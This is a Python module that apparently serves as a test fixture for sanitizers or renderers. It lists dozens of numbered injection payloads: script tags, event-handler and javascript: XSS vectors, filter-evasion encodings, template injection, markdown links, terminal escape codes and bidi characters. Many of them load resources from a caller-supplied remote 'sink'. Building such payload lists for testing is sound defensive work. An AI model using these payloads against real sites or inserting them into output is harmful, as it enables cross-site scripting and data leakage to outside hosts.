"""Text that would run, load or mislead, if a page took it for markup.

``RAN`` is a script that reports itself; ``SINK`` the address of a server of another origin.
"""

from __future__ import annotations

RAN = "window.ran&&window.ran('{n}')"

_TEMPLATES = (
    "<script>RAN</script>",
    "<SCRIPT SRC=SINK/s.js></SCRIPT>",
    "<script type=module>RAN</script>",
    "</script><script>RAN</script>",
    "</textarea><script>RAN</script>",
    "</title><script>RAN</script>",
    "</style><script>RAN</script>",
    "</pre></code><script>RAN</script>",
    "<!--><script>RAN</script>-->",
    "<![CDATA[<script>RAN</script>]]>",
    "<scr<script>ipt>RAN</scr</script>ipt>",
    "<img src=x onerror=RAN>",
    "<img src=SINK/i.png>",
    '"><img src=x onerror=RAN>',
    "'><img src=x onerror=RAN>",
    "`><img src=x onerror=RAN>",
    "<img srcset='SINK/a.png 1x'>",
    "<picture><source srcset=SINK/p.png><img></picture>",
    "<svg onload=RAN>",
    "<svg><script>RAN</script></svg>",
    "<svg><image href=SINK/v.png></svg>",
    "<svg><use href='SINK/u.svg#a'></svg>",
    "<svg><animate onbegin=RAN attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=SINK/fo></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=RAN></mtext></math>",
    "<iframe src=SINK/f></iframe>",
    "<iframe srcdoc='<script>parent.RAN</script>'></iframe>",
    "<object data=SINK/o></object>",
    "<embed src=SINK/e>",
    "<link rel=stylesheet href=SINK/l.css>",
    "<link rel=prefetch href=SINK/l>",
    "<meta http-equiv=refresh content='0;url=SINK/m'>",
    "<base href=SINK/>",
    "<style>@import 'SINK/c.css';</style>",
    "<style>*{background:url(SINK/bg.png)}</style>",
    "<div style='background:url(SINK/d.png)'>x</div>",
    "<p style='position:fixed;inset:0;background:red'>covered</p>",
    "<a href='javascript:RAN'>click</a>",
    "<a href='JaVaScRiPt&colon;RAN'>click</a>",
    "<a href='SINK/a' ping='SINK/ping'>click</a>",
    "<form action=SINK/form><button autofocus>x</button></form>",
    "<button formaction=javascript:RAN>x</button>",
    "<input autofocus onfocus=RAN>",
    "<details open ontoggle=RAN>x</details>",
    "<video src=SINK/v.mp4 onerror=RAN autoplay></video>",
    "<audio src=SINK/a.mp3></audio>",
    "<video poster=SINK/poster.png></video>",
    "<body onload=RAN>",
    "<marquee onstart=RAN>x</marquee>",
    "<table background=SINK/t.png><tr><td>x",
    "<template><script>RAN</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=RAN>'>",
    "<x onclick=RAN tabindex=1 id=x onfocus=RAN autofocus>x</x>",
    "![image](SINK/md.png)",
    "![x](javascript:RAN)",
    "[link](javascript:RAN)",
    "[ref]: SINK/ref 'x'",
    "<SINK/autolink>",
    "&lt;script&gt;RAN&lt;/script&gt;",
    "&#60;script&#62;RAN&#60;/script&#62;",
    "&#x3c;img src=x onerror=RAN&#x3e;",
    "\\u003cscript\\u003eRAN\\u003c/script\\u003e",
    "%3Cscript%3ERAN%3C/script%3E",
    "{{constructor.constructor('RAN')()}}",
    "${RAN}",
    "{% raw %}{{7*7}}{% endraw %}<%= RAN %>",
    "#{RAN}",
    "$$\\href{javascript:RAN}{x}$$",
    "\x1b]8;;SINK/osc\x07click\x1b]8;;\x07",
    "\x1b[31mred\x1b[0m\x1b[2J",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff",
    "data:text/html,<script>RAN</script>",
    "SINK/plain",
    'x" onmouseover="RAN" style="position:fixed;inset:0',
    "x' autofocus onfocus='RAN",
)


def payloads(sink: str) -> list[str]:
    """All of them; the number of each is in it."""
    return [
        f"{text.replace('RAN', RAN.format(n=n)).replace('SINK', sink)} no{n}"
        for n, text in enumerate(_TEMPLATES)
    ]
